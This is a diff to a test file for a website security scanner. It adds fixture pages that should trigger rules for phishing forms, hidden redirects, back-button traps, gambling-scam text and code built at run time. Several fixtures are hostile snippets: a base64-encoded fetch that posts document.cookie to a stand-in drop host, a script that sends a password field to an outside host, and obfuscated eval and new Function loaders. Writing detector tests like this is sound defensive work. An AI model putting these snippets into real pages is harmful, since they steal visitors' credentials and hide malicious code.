@@ -46,6 +46,11 @@ const EXAMPLES: Record<RuleId, Record<string, string>> = {
       '<form action="https://x.example.info/s" method="post"><input type="password"></form>',
     ),
   },
+  'form.sensitive-to-service': {
+    'index.html': page(
+      '<form action="https://docs.google.com/forms/d/e/x/formResponse" method="post"><input name="entry.1"><input type="password" name="entry.2"></form>',
+    ),
+  },
   'form.password-suspicious': {
     'index.html': page(
       '<form id="f" action="#"><input type="password" name="p"></form><script>fetch("https://c.example.org/?p=" + document.getElementById("p").value)</script>',
@@ -65,6 +70,14 @@ const EXAMPLES: Record<RuleId, Record<string, string>> = {
     'index.html': page('<form action="https://getform.io/f/abc" method="post"><input name="e"></form>'),
   },
   'js.redirect': { 'index.html': page('<script>location.assign("https://other.example.org/")</script>') },
+  'js.redirect-hidden': {
+    'index.html': page('<script>location.href = atob("aHR0cHM6Ly9zY2FtLmV4YW1wbGUueHl6Lw==")</script>'),
+  },
+  'js.history-trap': {
+    'index.html': page(
+      '<script>addEventListener("popstate", function () { history.pushState(null, "", location.href); });</script>',
+    ),
+  },
   'js.network-sink': {
     'index.html': page('<script>navigator.sendBeacon("https://stats.example.org/b", location.href)</script>'),
   },
@@ -90,6 +103,11 @@ const EXAMPLES: Record<RuleId, Record<string, string>> = {
   'js.crypto-miner': { 'index.html': page('<script src="https://example.com/cryptonight.js"></script>') },
   'text.scam': { 'index.html': page('<p>百家乐 老虎机 真人荷官 在线娱乐</p>') },
   'text.scam-contact': { 'index.html': page('<p>百家乐 老虎机 真人荷官</p><p>客服QQ：12345678</p>') },
+  'text.scam-payment': {
+    'index.html': page(
+      '<p>百家乐 老虎机 真人荷官</p><p>客服QQ：12345678</p><img src="skm.png" alt="收款码">',
+    ),
+  },
   'site.check-incomplete': {}, // made below: a file whose time budget runs out
 };
 
@@ -128,5 +146,28 @@ describe('the rule table', () => {
     expect(report.findings.map((f) => f.rule)).toContain('site.check-incomplete');
     expect(report.partially_scanned_files).toEqual(['index.html']);
     expect(report.level).toBe('medium');
+  });
+
+  it('code made at run time: data: and blob: modules, code from image pixels, a computed eval; cookies sent elsewhere', () => {
+    const payload = Buffer.from(
+      'fetch("https://c.example-drop.xyz/k", { method: "POST", body: document.cookie })',
+    ).toString('base64');
+    const rulesOf = (body: string) => checkSite({ 'index.html': page(body) }).findings.map((f) => f.rule);
+    // The data: module is read like the file's own code: a cookie sent to another host.
+    const data = rulesOf(`<script type="module">import("data:text/javascript;base64,${payload}")</script>`);
+    expect(data).toEqual(expect.arrayContaining(['js.decoded-execution', 'js.network-sink-input']));
+    expect(
+      rulesOf('<script>const u = URL.createObjectURL(new Blob([src])); new Worker(u);</script>'),
+    ).toContain('js.decoded-execution');
+    expect(
+      rulesOf(
+        '<script>var d = c.getContext("2d").getImageData(0, 0, 9, 9).data; var s = decode(d); new Function(s)();</script>',
+      ),
+    ).toContain('js.decoded-execution');
+    expect(rulesOf('<script>window["ev" + "al"](atob(v));</script>')).toContain('js.decoded-execution');
+    // An ordinary module import and a canvas game that never runs what it reads stay quiet.
+    expect(rulesOf('<script type="module">import("./app.js"); c.getImageData(0, 0, 1, 1);</script>')).toEqual(
+      [],
+    );
   });
 });
